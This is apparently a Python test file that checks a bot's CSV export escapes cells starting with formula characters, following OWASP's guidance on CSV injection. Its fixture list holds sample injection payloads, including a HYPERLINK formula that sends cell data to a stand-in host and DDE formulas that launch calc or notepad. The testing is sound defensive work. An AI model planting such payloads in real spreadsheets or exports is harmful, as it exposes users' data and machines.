"""CSV exports never carry a live formula: text starting with = + - @, a tab or a carriage
return gets a leading ' (OWASP, CSV injection); the rest of the text, numbers and JSON lines are
kept as stored."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import update

from bot.cli.exports import Format, page_writer
from models.store import Store
from models.store.inbox.tables import StaffUser
from models.store.migrate import upgrade
from tests.rights.world import CLI_KEY
from tests.support.cli import base_env, invoke
from tests.support.queue import add_staff, queued

FORMULA_START = "=+-@\t\r"  # OWASP's list
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
STAFF_NAME = "=cmd|' /C notepad'!A1"


def trigger(cell: str) -> bool:
    """Whether a spreadsheet would read the cell as a formula (a plain number is no formula)."""
    if not cell.startswith(tuple(FORMULA_START)):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def fill(url: str) -> None:
    """Messages that start like formulas, each in its own queue item; one item held by a
    member of staff whose name starts like one."""
    upgrade(url)

    async def write() -> None:
        async with Store.open(url, pseudonym_key=CLI_KEY.encode()) as store:
            items = [
                (await queued(store, text, pid=f"f{n}", sender=f"U{n}")).item_id
                for n, text in enumerate(FORMULAS)
            ]
            ann = await add_staff(store, "ann@lib.ac.uk")
            await _rename(store, ann)
            assert items[0] is not None
            await store.inbox.claim(item_id=items[0], actor_id=ann)

    asyncio.run(write())


async def _rename(store: Store, staff_id: int) -> None:
    """Give the account a name that starts like a formula (an admin could type one)."""
    query = update(StaffUser).where(StaffUser.id == staff_id).values(name=STAFF_NAME)
    await store.inbox._db.write(lambda c: c.execute(query))


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def exported(env: dict[str, str | None], kind: str, fmt: str, out: Path) -> str:
    ran = invoke(env, "export", kind, "--format", fmt, "--out", str(out))
    assert ran.code == 0, ran
    return out.read_bytes().decode("utf-8")


def test_the_cli_neutralises_formulas_in_csv_on_both_databases(db_url: str, tmp_path: Path) -> None:
    fill(db_url)
    env = base_env(tmp_path, database_url=db_url)
    messages = rows_of(exported(env, "messages", "csv", tmp_path / "m.csv"))
    conversations = rows_of(exported(env, "conversations", "csv", tmp_path / "c.csv"))
    lines = exported(env, "messages", "jsonl", tmp_path / "m.jsonl").splitlines()
    assert sorted(r["text"] for r in messages) == sorted("'" + t for t in FORMULAS)
    assert STAFF_NAME not in {r["assignee"] for r in conversations}
    assert "'" + STAFF_NAME in {r["assignee"] for r in conversations}
    for row in [*messages, *conversations]:
        assert not any(trigger(cell) for cell in row.values()), row
    assert sorted(json.loads(x)["text"] for x in lines) == sorted(FORMULAS)  # kept as stored


CELLS = st.one_of(
    st.text(max_size=12),
    st.sampled_from(list(FORMULA_START)).flatmap(
        lambda c: st.text(max_size=8).map(lambda t: c + t)
    ),
    st.integers(min_value=0),
    st.floats(min_value=0, allow_nan=False, allow_infinity=False),
    st.just(""),
)


@settings(max_examples=80, deadline=None)
@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=6), st.booleans())
def test_no_cell_of_a_written_csv_starts_a_formula(rows: list[list[Any]], terminal: bool) -> None:
    sink = io.StringIO(newline="")
    page_writer(("a", "b", "c"), Format.CSV, sink, terminal)([tuple(r) for r in rows])
    written = list(csv.reader(io.StringIO(sink.getvalue(), newline="")))
    assert len(written) == len(rows) + 1
    for row, back in zip(rows, written[1:], strict=True):
        for value, cell in zip(row, back, strict=True):
            assert not trigger(cell), (value, cell)
            if not terminal and isinstance(value, str):
                assert cell == ("'" + value if value.startswith(tuple(FORMULA_START)) else value)
